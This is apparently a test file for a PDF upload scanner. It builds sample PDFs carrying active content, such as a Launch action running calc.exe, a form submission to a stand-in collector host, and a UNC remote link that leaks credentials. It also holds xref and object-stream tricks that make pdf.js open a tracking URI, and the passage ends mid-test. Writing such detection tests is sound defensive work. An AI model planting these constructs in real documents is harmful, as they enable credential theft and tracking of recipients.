// Active content in a PDF (decision 099): a corpus per keyword of pdfid's set — written plainly,
// with a `#xx` escape, and compressed in an object stream — the /OpenAction rule (a destination
// or a plain GoTo passes, anything else is refused), and ordinary documents that must still pass:
// a form without actions, a scan, a word processor's export with object streams.
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { describe, expect, it } from 'vitest';
import { EscanerPdf, LIMITES_PDF, type VeredictoPdf } from '../../server/archivos/pdf.js';
import * as archivos from './ayuda/archivos.js';

const latin1 = (texto: string) => Buffer.from(texto, 'latin1');

/** The scan given the file in chunks of `largo` bytes (the last may be shorter). */
async function revisarEnTrozos(
  contenido: Buffer,
  largo: number,
  limites = LIMITES_PDF,
): Promise<VeredictoPdf> {
  const escaner = new EscanerPdf(limites);
  try {
    for (let i = 0; i < contenido.length && escaner.veredicto === 'limpio'; i += largo) {
      escaner.escribir(contenido.subarray(i, i + largo));
      await escaner.asentar();
    }
    return await escaner.terminar();
  } finally {
    escaner.soltar();
  }
}

/** Whole (as revisarPdf reads a small file) and one byte at a time: the same verdict. */
async function revisar(contenido: Buffer, limites = LIMITES_PDF): Promise<VeredictoPdf> {
  const entero = await revisarEnTrozos(contenido, 65_536, limites);
  expect(await revisarEnTrozos(contenido, 1, limites), 'de a un byte').toBe(entero);
  return entero;
}

// ——— Building PDFs ———

/**
 * A plain object, or an object stream (written where it stands in the file) holding `objetos`, or
 * written by hand: its table of (number, offset) pairs and the data after it.
 */
type Pieza =
  | { n: number; cuerpo: string | Buffer }
  | { flujo: number; objetos: { n: number; cuerpo: string }[] }
  | { flujo: number; tabla: [numero: number, desplazamiento: number][]; datos: string };

const objetoPlano = (n: number, cuerpo: string | Buffer) =>
  Buffer.concat([
    latin1(`${n} 0 obj\n`),
    typeof cuerpo === 'string' ? latin1(cuerpo) : cuerpo,
    latin1('\nendobj\n'),
  ]);

/**
 * A PDF of `piezas` in file order, with a correct cross-reference: a table when every object is
 * plain, else an xref stream (PDF 1.5) whose entries point into the object streams.
 */
function armar(piezas: Pieza[], trailer = '/Root 1 0 R'): Buffer {
  const partes: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let largo = partes[0]!.length;
  const entradas = new Map<number, [tipo: number, campo1: number, campo2: number]>();
  const agregar = (b: Buffer) => {
    partes.push(b);
    largo += b.length;
  };
  for (const pieza of piezas) {
    if ('cuerpo' in pieza) {
      entradas.set(pieza.n, [1, largo, 0]);
      agregar(objetoPlano(pieza.n, pieza.cuerpo));
      continue;
    }
    let pares: [numero: number, desplazamiento: number][] = [];
    let cuerpo = '';
    if ('tabla' in pieza) {
      pares = pieza.tabla;
      cuerpo = pieza.datos;
    } else {
      for (const objeto of pieza.objetos) {
        pares.push([objeto.n, cuerpo.length]);
        cuerpo += `${objeto.cuerpo}\n`;
      }
    }
    pares.forEach(([numero], indice) => entradas.set(numero, [2, pieza.flujo, indice]));
    const tabla = `${pares.map(([numero, desplazamiento]) => `${numero} ${desplazamiento}`).join(' ')}\n`;
    const dicc = `/Type /ObjStm /N ${pares.length} /First ${tabla.length} /Filter /FlateDecode`;
    entradas.set(pieza.flujo, [1, largo, 0]);
    agregar(objetoPlano(pieza.flujo, archivos.flujoPdf(dicc, deflateSync(latin1(tabla + cuerpo)))));
  }
  const tamano = Math.max(...entradas.keys()) + 2;
  const planos = piezas.every((p) => 'cuerpo' in p);
  if (planos) {
    const filas = Array.from({ length: tamano - 1 }, (_, n) => {
      const e = entradas.get(n);
      return e ? `${String(e[1]).padStart(10, '0')} 00000 n \n` : '0000000000 65535 f \n';
    });
    agregar(
      latin1(
        `xref\n0 ${tamano - 1}\n${filas.join('')}trailer\n<< /Size ${tamano - 1} ${trailer} >>\nstartxref\n${largo}\n%%EOF\n`,
      ),
    );
    return Buffer.concat(partes);
  }
  const propio = tamano - 1;
  entradas.set(propio, [1, largo, 0]);
  const filas = Array.from({ length: tamano }, (_, n) => {
    const fila = Buffer.alloc(7);
    const [tipo, campo1, campo2] = entradas.get(n) ?? [0, 0, n === 0 ? 0xffff : 0];
    fila[0] = tipo;
    fila.writeUInt32BE(campo1, 1);
    fila.writeUInt16BE(campo2, 5);
    return fila;
  });
  const inicio = largo;
  agregar(
    objetoPlano(
      propio,
      archivos.flujoPdf(`/Type /XRef /Size ${tamano} /W [1 4 2] ${trailer}`, Buffer.concat(filas)),
    ),
  );
  agregar(latin1(`startxref\n${inicio}\n%%EOF\n`));
  return Buffer.concat(partes);
}

const contenido = (texto: string) =>
  archivos.flujoPdf('/Filter /FlateDecode', deflateSync(latin1(`BT /F1 12 Tf 72 720 Td (${texto}) Tj ET`)));

/** Objects 2–5 of a one-page document; the page adds `pagina` to its dictionary. */
const pagina = (extra = ''): Pieza[] => [
  { n: 2, cuerpo: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
  {
    n: 3,
    cuerpo: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${extra} >>`,
  },
  { n: 4, cuerpo: contenido('Constancia de inscripcion') },
  { n: 5, cuerpo: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
];

/** What a reader makes of a file: pdf.js parses it, and says what /OpenAction does. */
async function leerConPdfJs(bytes: Buffer) {
  const documento = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise;
  try {
    return {
      paginas: documento.numPages,
      apertura: await documento.getOpenAction(),
      esquema: await documento.getOutline(),
    };
  } finally {
    await documento.destroy();
  }
}

// ——— Each keyword ———

/** `/JavaScript` → `/#4AavaScript`: the first letter as a `#xx` escape. */
const escapar = (clave: string) => `#${clave.charCodeAt(0).toString(16).toUpperCase()}${clave.slice(1)}`;

interface Caso {
  /** Object 6, the only place the keyword is named (`$` stands for it). */
  cuerpo: string;
  /** How the document reaches object 6: from the catalog, as a page's annotation, or as the action of a link (object 7). */
  catalogo?: string;
  anotacion?: boolean;
  enlace?: boolean;
  /** Plain objects it needs (a stream, say). */
  otros?: Pieza[];
}

const IR_A_PAGINA = '<< /S /GoTo /D [3 0 R /Fit] >>';
const CASOS: Record<string, Caso> = {
  JS: { cuerpo: '<< /Type /Action /S /Named /N /Print /$ (this.print\\(\\)) >>', enlace: true },
  JavaScript: { cuerpo: `<< /$ << /Names [(saludo) ${IR_A_PAGINA}] >> >>`, catalogo: '/Names 6 0 R' },
  AA: {
    cuerpo: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (nombre) /Rect [72 700 272 720] /$ << /Fo ${IR_A_PAGINA} >> >>`,
    anotacion: true,
  },
  Launch: { cuerpo: '<< /Type /Action /S /$ /F (calc.exe) /NewWindow true >>', enlace: true },
  SubmitForm: {
    cuerpo: '<< /Type /Action /S /$ /F << /FS /URL /F (https://recolector.example/datos) >> /Flags 4 >>',
    enlace: true,
  },
  ImportData: { cuerpo: '<< /Type /Action /S /$ /F (datos.fdf) >>', enlace: true },
  // A remote go-to to a network path: opening it sends the staff's credentials to that host.
  GoToR: {
    cuerpo:
      '<< /Type /Action /S /$ /F << /Type /Filespec /F (\\\\\\\\servidor.example\\\\compartido\\\\doc.pdf) >> /D [0 /Fit] >>',
    enlace: true,
  },
  GoToE: { cuerpo: '<< /Type /Action /S /$ /T << /R /C /N (adjunto.pdf) >> /D [0 /Fit] >>', enlace: true },
  RichMedia: { cuerpo: '<< /Type /Annot /Subtype /$ /Rect [72 500 272 700] >>', anotacion: true },
  // An XFA form: its XML (object 8) carries a script run when the form opens.
  XFA: {
    cuerpo: '<< /Fields [] /$ 8 0 R >>',
    catalogo: '/AcroForm 6 0 R',
    otros: [
      {
        n: 8,
        cuerpo: archivos.flujoPdf(
          '',
          latin1(
            '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="f"><event activity="initialize">' +
              '<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>',
          ),
        ),
      },
    ],
  },
  // The embedded file's own dictionary (a stream's, in a real file; a dictionary here, so that it
  // can be compressed too), reached from a file specification.
  EmbeddedFile: {
    cuerpo: '<< /Type /$ /Subtype /application#2Fx-msdownload /Params << /Size 2 >> >>',
    catalogo: '/AF [8 0 R]',
    otros: [{ n: 8, cuerpo: '<< /Type /Filespec /F (leeme.exe) /EF << /F 6 0 R >> >>' }],
  },
};

/** The document carrying object 6 (`cuerpo`), plain or compressed in object stream 9. */
function conObjeto6(caso: Caso, cuerpo: string, comprimido: boolean): Buffer {
  const extraPagina = caso.anotacion ? '/Annots [6 0 R]' : caso.enlace ? '/Annots [7 0 R]' : '';
  const piezas: Pieza[] = [
    { n: 1, cuerpo: `<< /Type /Catalog /Pages 2 0 R ${caso.catalogo ?? ''} >>` },
    ...pagina(extraPagina),
  ];
  if (caso.enlace)
    piezas.push({ n: 7, cuerpo: '<< /Type /Annot /Subtype /Link /Rect [72 700 272 720] /A 6 0 R >>' });
  piezas.push(...(caso.otros ?? []));
  piezas.push(comprimido ? { flujo: 9, objetos: [{ n: 6, cuerpo }] } : { n: 6, cuerpo });
  return armar(piezas);
}

describe('cada nombre de contenido activo (el conjunto de pdfid)', () => {
  for (const [clave, caso] of Object.entries(CASOS)) {
    const escrito = caso.cuerpo.replace('$', clave);
    const escapado = caso.cuerpo.replace('$', escapar(clave));
    it(`/${clave} en un objeto → activo`, async () => {
      expect(await revisar(conObjeto6(caso, escrito, false))).toBe('activo');
    });
    it(`/${escapar(clave)} (escapado) en un objeto → activo`, async () => {
      expect(await revisar(conObjeto6(caso, escapado, false))).toBe('activo');
    });
    it(`/${clave} en un flujo de objetos comprimido → activo`, async () => {
      expect(await revisar(conObjeto6(caso, escrito, true))).toBe('activo');
    });
  }

  it('los documentos de la lista son PDFs que un lector abre (pdf.js)', async () => {
    for (const [clave, caso] of Object.entries(CASOS)) {
      for (const comprimido of [false, true]) {
        const leido = await leerConPdfJs(conObjeto6(caso, caso.cuerpo.replace('$', clave), comprimido));
        expect([clave, comprimido, leido.paginas]).toEqual([clave, comprimido, 1]);
      }
    }
  });

  it('el mismo documento sin el nombre → limpio', async () => {
    for (const caso of Object.values(CASOS)) {
      // The keyword renamed to a harmless name: what remains passes.
      const inocuo = caso.cuerpo.replace('$', 'Inocuo');
      expect(await revisar(conObjeto6(caso, inocuo, false))).toBe('limpio');
      expect(await revisar(conObjeto6(caso, inocuo, true))).toBe('limpio');
    }
  });
});

// ——— /OpenAction ———

/** A one-page document whose catalog (object 1) opens with `valor`; `otros` placed after it. */
const abriendo = (valor: string, otros: Pieza[] = [], antes: Pieza[] = []): Buffer =>
  armar([
    ...antes,
    { n: 1, cuerpo: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${valor} >>` },
    ...pagina(),
    ...otros,
  ]);

const IR = '<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>';
const URI = '<< /Type /Action /S /URI /URI (https://rastreo.example/abierto) >>';

/** An incremental update (a new xref section and trailer) that redefines the GoTo as a /URI. */
function redefinido(): Buffer {
  const original = abriendo('6 0 R', [{ n: 6, cuerpo: IR }]);
  const anterior = Number(/startxref\n(\d+)/.exec(original.toString('latin1'))![1]);
  const objeto = objetoPlano(6, URI);
  const xref = original.length + objeto.length;
  const seccion = `xref\n0 1\n0000000000 65535 f \n6 1\n${String(original.length).padStart(10, '0')} 00000 n \n`;
  return Buffer.concat([
    original,
    objeto,
    latin1(`${seccion}trailer\n<< /Size 7 /Root 1 0 R /Prev ${anterior} >>\nstartxref\n${xref}\n%%EOF\n`),
  ]);
}

/**
 * A decoy `23 0 obj` GoTo, and an xref table whose entry for object 23 points inside the number
 * of `123 0 obj`, a /URI: pdf.js reads `23 0 obj` there and accepts it.
 */
function dentroDeUnNumero(): Buffer {
  const pdf = abriendo('23 0 R', [
    { n: 23, cuerpo: IR },
    { n: 123, cuerpo: URI },
  ]);
  const texto = pdf.toString('latin1');
  const dentro = texto.indexOf('123 0 obj') + 1;
  const xref = texto.indexOf('\nxref\n') + '\nxref\n'.length;
  const fila23 = texto.indexOf('\n', xref) + 1 + 23 * 20;
  return Buffer.concat([
    pdf.subarray(0, fila23),
    latin1(String(dentro).padStart(10, '0')),
    pdf.subarray(fila23 + 10),
  ]);
}

describe('/OpenAction: sólo un destino o un GoTo sin /Next', () => {
  const aceptados: [string, Buffer][] = [
    ['un destino [3 0 R /Fit]', abriendo('[3 0 R /Fit]')],
    // What LibreOffice and Word write.
    ['un destino [3 0 R /XYZ null null 0]', abriendo('[3 0 R /XYZ null null 0]')],
    ['un GoTo escrito en el lugar', abriendo(IR)],
    ['un GoTo en un objeto que viene después', abriendo('6 0 R', [{ n: 6, cuerpo: IR }])],
    ['un GoTo en un objeto que vino antes', abriendo('6 0 R', [], [{ n: 6, cuerpo: IR }])],
    [
      'un GoTo en un flujo de objetos que viene después',
      abriendo('6 0 R', [{ flujo: 7, objetos: [{ n: 6, cuerpo: IR }] }]),
    ],
    [
      'un GoTo en un flujo de objetos que vino antes',
      abriendo('6 0 R', [], [{ flujo: 7, objetos: [{ n: 6, cuerpo: IR }] }]),
    ],
    [
      'el catálogo y el GoTo en flujos de objetos, entre otros objetos',
      armar([
        {
          flujo: 8,
          objetos: [
            { n: 10, cuerpo: '<< /Type /StructElem /S /P >>' },
            { n: 6, cuerpo: IR },
            { n: 11, cuerpo: '[1 2 3]' },
          ],
        },
        ...pagina(),
        { flujo: 7, objetos: [{ n: 1, cuerpo: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>' }] },
      ]),
    ],
    ['un destino en un objeto aparte', abriendo('6 0 R', [{ n: 6, cuerpo: '[3 0 R /FitH 800]' }])],
    ['null (lo mismo que no tenerla)', abriendo('null')],
  ];

  it.each(aceptados)('%s → limpio', async (_caso, pdf) => {
    expect(await revisar(pdf)).toBe('limpio');
  });

  it('un GoTo en un flujo de objetos cuya tabla no sigue el orden de los datos → limpio', async () => {
    // ISO 32000 wants the offsets in increasing order and pdf.js refuses others; a reader that
    // seeks to each object might not: the scan sorts them.
    const desordenado = abriendo('6 0 R', [
      {
        flujo: 7,
        tabla: [
          [6, 20],
          [10, 0],
        ],
        datos: `<< /Type /Foo >>    ${IR}`,
      },
    ]);
    expect(await revisar(desordenado)).toBe('limpio');
    const conUri = abriendo('6 0 R', [
      {
        flujo: 7,
        tabla: [
          [6, 20],
          [10, 0],
        ],
        datos: `<< /Type /Foo >>    ${URI}`,
      },
    ]);
    expect(await revisar(conUri)).toBe('activo');
  });

  it('pdf.js ve en cada uno un destino: los documentos son lo que dicen ser', async () => {
    for (const [caso, pdf] of aceptados.slice(0, -1)) {
      const leido = await leerConPdfJs(pdf);
      expect([caso, leido.paginas, Array.isArray(leido.apertura?.dest)]).toEqual([caso, 1, true]);
    }
  });

  const rechazados: [string, Buffer][] = [
    ['un /URI escrito en el lugar', abriendo(URI)],
    ['un /URI en un objeto', abriendo('6 0 R', [{ n: 6, cuerpo: URI }])],
    ['un /URI en un flujo de objetos', abriendo('6 0 R', [{ flujo: 7, objetos: [{ n: 6, cuerpo: URI }] }])],
    [
      'un /URI en un flujo de objetos que vino antes',
      abriendo('6 0 R', [], [{ flujo: 7, objetos: [{ n: 6, cuerpo: URI }] }]),
    ],
    ['un /Named (imprimir al abrir)', abriendo('<< /S /Named /N /Print >>')],
    ['un /Named en un objeto', abriendo('6 0 R', [{ n: 6, cuerpo: '<< /S /Named /N /Print >>' }])],
    ['un /JavaScript', abriendo('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['un GoTo con /Next', abriendo(`<< /S /GoTo /D [3 0 R /Fit] /Next ${URI} >>`)],
    [
      'un GoTo con /Next en un objeto',
      abriendo('6 0 R', [
        { n: 6, cuerpo: '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>' },
        { n: 7, cuerpo: URI },
      ]),
    ],
    [
      'un GoTo con /Next en un flujo de objetos',
      abriendo('6 0 R', [
        {
          flujo: 8,
          objetos: [
            { n: 6, cuerpo: '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>' },
            { n: 7, cuerpo: IR },
          ],
        },
      ]),
    ],
    ['una referencia a un objeto que no existe', abriendo('99 0 R')],
    ['una referencia a un objeto que no es una acción', abriendo('5 0 R')],
    ['una referencia a un objeto más allá del límite de ISO 32000', abriendo('9999999 0 R')],
    ['un nombre', abriendo('/Inicio')],
    ['una cadena', abriendo('(Inicio)')],
    ['un número suelto', abriendo('6 /Algo')],
    ['una acción sin /S', abriendo('<< /D [3 0 R /Fit] >>')],
    ['un /S que es otra cosa que un nombre', abriendo('<< /S 8 0 R /D [3 0 R /Fit] >>')],
    [
      'dos /S, GoTo y URI',
      abriendo('<< /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://rastreo.example/) >>'),
    ],
    [
      '/OpenAction escrito con un escape',
      armar([{ n: 1, cuerpo: `<< /Type /Catalog /Pages 2 0 R /Open#41ction ${URI} >>` }, ...pagina()]),
    ],
    ['un GoTo redefinido como /URI en una actualización', redefinido()],
    ['un GoTo cuyo número es el final del de un /URI', dentroDeUnNumero()],
    [
      // A header inside a string cuts the action short: what a reader sees of it we do not.
      'un GoTo cortado por un encabezado dentro de una cadena',
      abriendo('6 0 R', [{ n: 6, cuerpo: '<< /S /GoTo /T (7 0 obj) /D [3 0 R /Fit] >>' }]),
    ],
    [
      // A dictionary's `]` does not close it: the /S after it belongs to it.
      'un GoTo con un corchete de más y luego /S /URI',
      abriendo('6 0 R', [
        { n: 6, cuerpo: '<< /S /GoTo /D [3 0 R /Fit] ] /S /URI /URI (https://rastreo.example/) >>' },
      ]),
    ],
    [
      'un objeto de un flujo de objetos en el mismo lugar que un /URI',
      abriendo('6 0 R', [
        {
          flujo: 7,
          tabla: [
            [6, 0],
            [8, 0],
          ],
          datos: URI,
        },
      ]),
    ],
    [
      'un GoTo en un flujo de objetos que también lo define como /URI',
      abriendo('6 0 R', [
        {
          flujo: 7,
          tabla: [
            [6, 0],
            [6, URI.length + 1],
          ],
          datos: `${URI} ${IR}`,
        },
      ]),
    ],
    [
      'un >> dentro de un arreglo, y luego /S /URI',
      abriendo('<< /S /GoTo /D [ >> ] /S /URI /URI (https://rastreo.example/) >>'),
    ],
    [
      'un /OpenAction sin valor al final del archivo',
      latin1('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 6 0 R'),
    ],
  ];

  it.each(rechazados)('%s → activo', async (_caso, pdf) => {
    expect(await revisar(pdf)).toBe('activo');
  });

  it('los trucos con el xref engañan a un lector: pdf.js no abre en un destino', async () => {
    // The same files with the GoTo alone open on a destination (above); these open the /URI.
    for (const pdf of [redefinido(), dentroDeUnNumero()]) {
      const leido = await leerConPdfJs(pdf);
      expect(leido.paginas).toBe(1);
      expect(leido.apertura?.dest).toBeUndefined();
    }
    expect(
      (
        await leerConPdfJs(
          abriendo('23 0 R', [
            { n: 23, cuerpo: IR },
            { n: 123, cuerpo: URI },
          ]),
        )
      ).apertura?.dest,
    ).toBeDefined();
  });

  it('un flujo de objetos cuyas posiciones se pisan y que nombra /OpenAction → activo', async () => {
    // Object 1 is read by a reader from offset 0 to its end, across object 6's start, which cuts
    // /OpenAction in two for a reading that starts afresh at each object: refused.
    const cuerpo = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${URI} >>`;
    const corte = cuerpo.indexOf('Action');
    const tabla = `1 0 6 ${corte}\n`;
    const datos = deflateSync(latin1(tabla + cuerpo));
    const pdf = armar([
      {
        n: 7,
        cuerpo: archivos.flujoPdf(`/Type /ObjStm /N 2 /First ${tabla.length} /Filter /FlateDecode`, datos),
      },
      ...pagina(),
    ]);
    expect(await revisar(pdf)).toBe('activo');
  });

  it('un flujo de objetos con la tabla rota: sus objetos no pueden ser el destino', async () => {
    const datos = deflateSync(latin1(`6 x\n${IR}`));
    const roto = archivos.flujoPdf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', datos);
    expect(await revisar(abriendo('6 0 R', [{ n: 7, cuerpo: roto }]))).toBe('activo');
    expect(await revisar(abriendo('[3 0 R /Fit]', [{ n: 7, cuerpo: roto }]))).toBe('limpio');
  });

  it('más destinos distintos que LIMITES_PDF.destinosDeApertura → activo', async () => {
    const muchos = Array.from(
      { length: LIMITES_PDF.destinosDeApertura + 1 },
      (_, k) => `${k + 10} 0 obj\n<< /OpenAction ${k + 1000} 0 R >>\nendobj\n`,
    );
    const objetos = Array.from(
      { length: LIMITES_PDF.destinosDeApertura + 1 },
      (_, k) => `${k + 1000} 0 obj\n${IR}\nendobj\n`,
    );
    const pdf = latin1(`%PDF-1.7\n${objetos.join('')}${muchos.join('')}`);
    expect(await revisar(pdf)).toBe('activo');
    expect(
      await revisar(pdf, { ...LIMITES_PDF, destinosDeApertura: LIMITES_PDF.destinosDeApertura + 1 }),
    ).toBe('limpio');
  });

  it('un flujo de objetos con más objetos que LIMITES_PDF.objetosPorFlujo: su GoTo no cuenta', async () => {
    const objetos = [
      { n: 6, cuerpo: IR },
      ...Array.from({ length: 20 }, (_, k) => ({ n: k + 10, cuerpo: '<< >>' })),
    ];
    const pdf = abriendo('6 0 R', [{ flujo: 7, objetos }]);
    expect(await revisar(pdf)).toBe('limpio');
    expect(await revisar(pdf, { ...LIMITES_PDF, objetosPorFlujo: 10 })).toBe('activo');
    expect(
      await revisar(abriendo('[3 0 R /Fit]', [{ flujo: 7, objetos }]), {
        ...LIMITES_PDF,
        objetosPorFlujo: 10,
      }),
    ).toBe('limpio');
  });
});

// ——— Ordinary documents ———

/** What pdfkit writes (a real PDF writer), with a fixed date so that the bytes do not change. */
function conPdfkit(dibujar: (documento: PDFKit.PDFDocument) => void): Promise<Buffer> {
  const documento = new PDFDocument({
    autoFirstPage: false,
    info: { CreationDate: new Date(Date.UTC(2026, 0, 2)), Producer: 'prueba' },
  });
  const trozos: Buffer[] = [];
  documento.on('data', (trozo: Buffer) => trozos.push(trozo));
  const fin = new Promise<Buffer>((resolve) => documento.on('end', () => resolve(Buffer.concat(trozos))));
  dibujar(documento);
  documento.end();
  return fin;
}

/**
 * A scanned page's JPEG: the helpers' JPEG at 1654 × 2339 (A4 at 200 dpi) with 200 KB of
 * pseudo-random bytes in an APP segment — binary stream data, where names of active content may
 * appear by chance: stream data is not syntax.
 */
function jpegEscaneado(semilla: number): Buffer {
  const base = archivos.jpeg(1654, 2339);
  const segmentos: Buffer[] = [];
  let estado = semilla;
  for (let s = 0; s < 4; s++) {
    const datos = Buffer.alloc(50_000);
    for (let i = 0; i < datos.length; i++) {
      estado = (estado * 1_103_515_245 + 12_345) % 2 ** 31;
      datos[i] = estado >>> 23;
    }
    latin1('/JavaScript /AA << /S /URI >> /OpenAction /XFA').copy(datos, 1000 + s * 7_000);
    const cabeza = Buffer.from([0xff, 0xe2, 0, 0]);
    cabeza.writeUInt16BE(datos.length + 2, 2);
    segmentos.push(cabeza, datos);
  }
  return Buffer.concat([base.subarray(0, 2), ...segmentos, base.subarray(2)]);
}

/**
 * What a word processor's export looks like (LibreOffice Writer, Word): /OpenAction a destination
 * array, outlines (whose items chain with /Next), a tagged structure (elements with /S), links to
 * web pages, XMP metadata, an embedded font, and the dictionaries in object streams found
 * through an xref stream. `apertura` replaces the /OpenAction value; `extra` adds objects to the
 * object stream.
 */
function exportacion(
  apertura = '[3 0 R /XYZ null null 0]',
  extra: { n: number; cuerpo: string }[] = [],
): Buffer {
  const fuente = Buffer.alloc(20_000);
  for (let i = 0; i < fuente.length; i++) fuente[i] = (i * 7919 + (i >> 8)) & 0xff;
  return armar(
    [
      {
        n: 1,
        cuerpo: `<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R /PageMode /UseOutlines /OpenAction ${apertura} /Lang (es-AR) /MarkInfo << /Marked true >> /StructTreeRoot 12 0 R /Metadata 20 0 R /ViewerPreferences << /DisplayDocTitle true >> >>`,
      },
      { n: 2, cuerpo: '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>' },
      {
        n: 3,
        cuerpo:
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.3 841.9] /Resources << /Font << /F1 7 0 R >> >> /Contents 5 0 R /Annots [11 0 R] /StructParents 0 /Tabs /S >>',
      },
      {
        n: 4,
        cuerpo:
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.3 841.9] /Resources << /Font << /F1 7 0 R >> >> /Contents 6 0 R /StructParents 2 /Tabs /S >>',
      },
      { n: 5, cuerpo: contenido('Constancia de matricula. Ver www.amr.org.ar') },
      { n: 6, cuerpo: contenido('Anexo') },
      {
        n: 9,
        cuerpo: archivos.flujoPdf(`/Length1 ${fuente.length} /Filter /FlateDecode`, deflateSync(fuente)),
      },
      {
        n: 20,
        cuerpo: archivos.flujoPdf(
          '/Type /Metadata /Subtype /XML',
          latin1(
            '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta><?xpacket end="w"?>',
          ),
        ),
      },
      {
        n: 19,
        cuerpo:
          "<< /Title (Constancia) /Creator (Writer) /Producer (LibreOffice 24.2) /CreationDate (D:20260102100000-03'00') >>",
      },
      {
        flujo: 21,
        objetos: [
          {
            n: 7,
            cuerpo:
              '<< /Type /Font /Subtype /TrueType /BaseFont /BAAAAA+LiberationSerif /FirstChar 0 /LastChar 5 /Widths [365 500 500 500 500 500] /FontDescriptor 10 0 R >>',
          },
          {
            n: 10,
            cuerpo:
              '<< /Type /FontDescriptor /FontName /BAAAAA+LiberationSerif /Flags 4 /FontBBox [-543 -303 1277 981] /ItalicAngle 0 /Ascent 891 /Descent -216 /CapHeight 981 /StemV 80 /FontFile2 9 0 R >>',
          },
          { n: 8, cuerpo: '<< /Type /Outlines /First 13 0 R /Last 14 0 R /Count 2 >>' },
          {
            n: 13,
            cuerpo: '<< /Title (Constancia) /Parent 8 0 R /Next 14 0 R /Dest [3 0 R /XYZ 56.7 785.2 0] >>',
          },
          {
            n: 14,
            cuerpo: '<< /Title (Anexo) /Parent 8 0 R /Prev 13 0 R /Dest [4 0 R /XYZ 56.7 785.2 0] >>',
          },
          {
            n: 11,
            cuerpo:
              '<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [56.7 770 200 785] /A << /Type /Action /S /URI /URI (https://www.amr.org.ar/) >> /StructParent 1 >>',
          },
          {
            n: 12,
            cuerpo:
              '<< /Type /StructTreeRoot /K [15 0 R] /ParentTree 16 0 R /ParentTreeNextKey 3 /RoleMap << /Standard /P >> >>',
          },
          { n: 15, cuerpo: '<< /Type /StructElem /S /Document /P 12 0 R /K [17 0 R 18 0 R] >>' },
          { n: 16, cuerpo: '<< /Nums [0 [17 0 R] 1 18 0 R 2 [17 0 R]] >>' },
          { n: 17, cuerpo: '<< /Type /StructElem /S /Standard /P 15 0 R /Pg 3 0 R /K [0] >>' },
          {
            n: 18,
            cuerpo:
              '<< /Type /StructElem /S /Link /P 15 0 R /Pg 3 0 R /K [<< /Type /OBJR /Obj 11 0 R >> 1] >>',
          },
          ...extra,
        ],
      },
    ],
    '/Root 1 0 R /Info 19 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]',
  );
}

describe('documentos corrientes', () => {
  it('un formulario con campos y sin acciones (pdfkit) → limpio', async () => {
    const pdf = await conPdfkit((d) => {
      d.addPage({ size: 'A4' });
      d.initForm();
      d.fontSize(14).text('Solicitud de inscripción', 72, 72);
      d.formText('apellido', 72, 120, 250, 20);
      d.formText('matricula', 72, 150, 120, 20);
      d.formCheckbox('acepta', 72, 180, 12, 12);
      d.formCombo('especialidad', 72, 210, 200, 20, { select: ['Clínica', 'Pediatría'], value: 'Clínica' });
      d.text('Más información', 72, 260, { link: 'https://www.amr.org.ar/' });
      d.outline.addItem('Solicitud');
    });
    const texto = pdf.toString('latin1');
    expect(texto).toContain('/AcroForm');
    expect(texto).toContain('/FT /Tx');
    expect(texto).not.toMatch(/\/(AA|JS|JavaScript|OpenAction)\b/);
    expect(await revisar(pdf)).toBe('limpio');
    expect((await leerConPdfJs(pdf)).paginas).toBe(1);
  });

  it('un escaneo: páginas hechas sólo de una imagen JPEG (DCTDecode) → limpio', async () => {
    const pdf = await conPdfkit((d) => {
      for (const semilla of [1, 2]) {
        d.addPage({ size: 'A4', margin: 0 });
        d.image(jpegEscaneado(semilla), 0, 0, { width: 595.28, height: 841.89 });
      }
    });
    expect(pdf.toString('latin1')).toContain('/Filter /DCTDecode');
    expect(pdf.length).toBeGreaterThan(400_000);
    expect(await revisar(pdf)).toBe('limpio');
    expect((await leerConPdfJs(pdf)).paginas).toBe(2);
  });

  it('una exportación de un procesador de textos (flujos de objetos, xref en flujo, esquema, estructura) → limpio', async () => {
    const pdf = exportacion();
    expect(await revisar(pdf)).toBe('limpio');
    const leido = await leerConPdfJs(pdf);
    expect(leido.paginas).toBe(2);
    expect(leido.esquema?.map((item) => item.title)).toEqual(['Constancia', 'Anexo']);
    expect(Array.isArray(leido.apertura?.dest)).toBe(true);
  });

  it('la misma exportación, abriendo con un GoTo comprimido junto a ella → limpio; con un /URI → activo', async () => {
    expect(await revisar(exportacion('22 0 R', [{ n: 22, cuerpo: IR }]))).toBe('limpio');
    expect(await revisar(exportacion('22 0 R', [{ n: 22, cuerpo: URI }]))).toBe('activo');
    expect(await revisar(exportacion('<< /S /Named /N /Print >>'))).toBe('activo');
  });

  it('cualquier corte en trozos da el mismo veredicto', async () => {
    const casos = [
      exportacion(),
      exportacion('22 0 R', [{ n: 22, cuerpo: IR }]),
